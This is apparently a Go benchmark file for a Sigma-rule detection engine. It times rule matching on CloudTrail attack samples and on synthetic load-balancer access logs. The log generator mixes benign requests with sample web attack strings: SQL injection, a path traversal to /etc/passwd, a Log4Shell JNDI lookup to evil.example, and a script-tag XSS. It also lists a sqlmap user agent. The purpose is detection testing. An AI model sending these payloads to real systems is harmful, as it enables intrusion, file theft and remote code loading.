package sigma_test

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"syscall"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/config"
	"github.com/vigil-sec/vigil/internal/detect/sigma"
	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/parse"
	"github.com/vigil-sec/vigil/internal/parse/albparse"
	"github.com/vigil-sec/vigil/internal/parse/cloudtrailparse"
	"github.com/vigil-sec/vigil/internal/parse/conformancetest"
	"github.com/vigil-sec/vigil/internal/process"
)

// capture is a processor that keeps a deep copy of every event it sees.
type capture struct{ events []*event.Event }

type captureConfig struct{}

func (captureConfig) Validate() error { return nil }

func (c *capture) Process(it *process.Item) (process.Verdict, error) {
	e := &event.Event{Fields: make([]event.Field, 0, len(it.Event.Fields))}
	for _, f := range it.Event.Fields {
		v := f.Value
		if b, ok := v.AsBytes(); ok {
			v = event.String(string(b))
		} else if b, ok := v.RawJSON(); ok {
			v = event.Raw(append([]byte(nil), b...))
		}
		e.Fields = append(e.Fields, event.Field{Key: f.Key, Value: v})
	}
	c.events = append(c.events, e)
	return process.Drop, nil
}

// parseAll returns the events format makes of records, as the pipeline sees them
// before its processors.
func parseAll(tb testing.TB, f parse.Format, records [][]byte) []*event.Event {
	tb.Helper()
	p, err := f.New(f.NewConfig())
	if err != nil {
		tb.Fatal(err)
	}
	c := &capture{}
	types := func(string) (process.Type, bool) {
		return process.Type{Name: "capture", NewConfig: func() config.Component { return captureConfig{} },
			New: func(config.Component, process.Deps) (process.Processor, error) { return c, nil }}, true
	}
	chain, err := process.NewChain([]*config.Processor{{Type: "capture", Settings: captureConfig{}}}, types, process.Deps{}, nil)
	if err != nil {
		tb.Fatal(err)
	}
	n := &process.Normalizer{Source: "bench", FormatDataset: f.Dataset, KeepOriginal: true, Parser: p, Chain: chain}
	for i, r := range records {
		if _, err := n.Process(process.Record{Data: r, Received: time.Unix(0, 0), Origin: event.Origin{Seq: uint64(i)}}, &collect{}); err != nil {
			tb.Fatal(err)
		}
	}
	return c.events
}

func benchMatch(b *testing.B, set *sigma.RuleSet, events []*event.Event, dataset string) {
	ev := set.NewEvaluator()
	hits := 0
	count := func(*sigma.Rule) { hits++ }
	// The machine running benchmarks may be shared: besides wall-clock events/s, report
	// the CPU time the benchmark's own thread used per event.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	b.ReportAllocs()
	b.ResetTimer()
	cpu0 := threadCPU()
	for i := 0; i < b.N; i++ {
		ev.Match(events[i%len(events)], dataset, count)
	}
	cpu := threadCPU() - cpu0
	b.StopTimer()
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	b.ReportMetric(float64(cpu.Nanoseconds())/float64(b.N), "cpu-ns/event")
	b.ReportMetric(float64(hits)/float64(b.N), "alerts/event")
}

// threadCPU returns the CPU time of the calling OS thread (RUSAGE_THREAD).
func threadCPU() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(1, &ru); err != nil { // 1: RUSAGE_THREAD on Linux
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// BenchmarkSigmaCloudTrail matches the Stratus Red Team CloudTrail events against
// all 57 AWS rules (matching only; alerts are counted, not built).
func BenchmarkSigmaCloudTrail(b *testing.B) {
	dir := conformancetest.Shared(b, "sigma", "cloudtrail-samples", "stratus-red-team")
	set, err := sigma.Load([]string{conformancetest.Shared(b, "sigma", "rules", "cloud", "aws")}, sigma.BuiltinFieldMapping())
	if err != nil {
		b.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*.json"))
	var records [][]byte
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			b.Fatal(err)
		}
		records = append(records, data)
	}
	events := parseAll(b, cloudtrailparse.Format(), records)
	if len(events) < 300 {
		b.Fatalf("%d events", len(events))
	}
	benchMatch(b, set, events, cloudtrailparse.Dataset)
}

// BenchmarkSigmaWebALB matches ALB access-log events (mostly benign, one in eight
// carrying an attack pattern) against the webserver and proxy rules.
func BenchmarkSigmaWebALB(b *testing.B) {
	web := conformancetest.Shared(b, "sigma", "rules", "web")
	set, err := sigma.Load([]string{filepath.Join(web, "proxy_generic"), filepath.Join(web, "webserver_generic")}, sigma.BuiltinFieldMapping())
	if err != nil {
		b.Fatal(err)
	}
	events := parseAll(b, albparse.Format(), albRecords(256))
	benchMatch(b, set, events, albparse.Dataset)
}

func albRecords(n int) [][]byte {
	paths := []string{
		"/", "/index.html", "/api/v1/users?id=42&sort=name", "/static/js/app.3f2a.js",
		"/images/logo.png", "/search?q=running+shoes", "/cart/checkout", "/api/v1/orders/1234",
	}
	attacks := []string{
		"/index.php?id=1%27+union+select+password+from+users--", "/../../etc/passwd",
		"/?x=${jndi:ldap://evil.example/a}", "/search?q=<script>alert(1)</script>",
	}
	agents := []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
		"curl/8.4.0", "sqlmap/1.7", "python-requests/2.31.0",
	}
	out := make([][]byte, n)
	for i := range out {
		p := paths[i%len(paths)]
		if i%8 == 7 {
			p = attacks[(i/8)%len(attacks)]
		}
		out[i] = []byte(fmt.Sprintf(`https 2024-03-01T10:%02d:%02d.123456Z app/web/50dc6c495c0c9188 203.0.113.%d:%d 10.0.1.5:80 0.001 0.012 0.000 200 200 512 %d "GET https://shop.example.com:443%s HTTP/1.1" "%s" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/73e2d6bc24d8a067 "Root=1-65e1a2b3-%024x" "shop.example.com" "arn:aws:acm:us-east-1:123456789012:certificate/12345678-1234-1234-1234-123456789012" 0 2024-03-01T10:00:00.100000Z "forward" "-" "-" "10.0.1.5:80" "200" "-" "-"`,
			i/60%60, i%60, i%250+1, 40000+i, 1000+i, p, agents[i%len(agents)], i))
	}
	return out
}

// BenchmarkSigmaCloudTrailPipeline runs the Stratus records through the whole
// processing step: CloudTrail parser, normalizer, the sigma processor with the 57 AWS
// rules (alerts built, encoded and emitted) and the event's ECS encoding; compare with
// sub-benchmark "parse only" for the processor's share.
func BenchmarkSigmaCloudTrailPipeline(b *testing.B) {
	dir := conformancetest.Shared(b, "sigma", "cloudtrail-samples", "stratus-red-team")
	rules := conformancetest.Shared(b, "sigma", "rules", "cloud", "aws")
	files, _ := filepath.Glob(filepath.Join(dir, "*.json"))
	var records [][]byte
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			b.Fatal(err)
		}
		records = append(records, data)
	}
	for _, withRules := range []bool{false, true} {
		name := "parse only"
		if withRules {
			name = "with sigma"
		}
		b.Run(name, func(b *testing.B) {
			n := newNormalizer(b, rules)
			if !withRules {
				n.Chain = nil
			}
			out := &countOutput{}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				if _, err := n.Process(process.Record{Data: records[i%len(records)], Received: time.Unix(0, 0)}, out); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(out.events)/b.Elapsed().Seconds(), "events/s")
			b.ReportMetric(float64(out.alerts)/float64(out.events), "alerts/event")
		})
	}
}

type countOutput struct{ events, alerts int }

func (c *countOutput) Event(dataset string, _ []byte) error {
	if dataset == sigma.AlertDataset {
		c.alerts++
	} else {
		c.events++
	}
	return nil
}
func (c *countOutput) Reject(int, []byte, error) {}
func (c *countOutput) Skip(string)               {}
